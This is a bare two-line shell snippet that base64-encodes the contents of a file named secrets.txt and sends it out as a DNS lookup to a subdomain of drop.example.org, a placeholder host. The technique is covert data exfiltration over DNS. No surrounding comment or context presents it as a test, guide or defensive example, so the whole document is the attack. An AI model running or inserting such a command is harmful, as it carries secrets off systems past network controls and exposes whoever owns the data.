part=$(cat secrets.txt | base64)
dig "$part.drop.example.org"
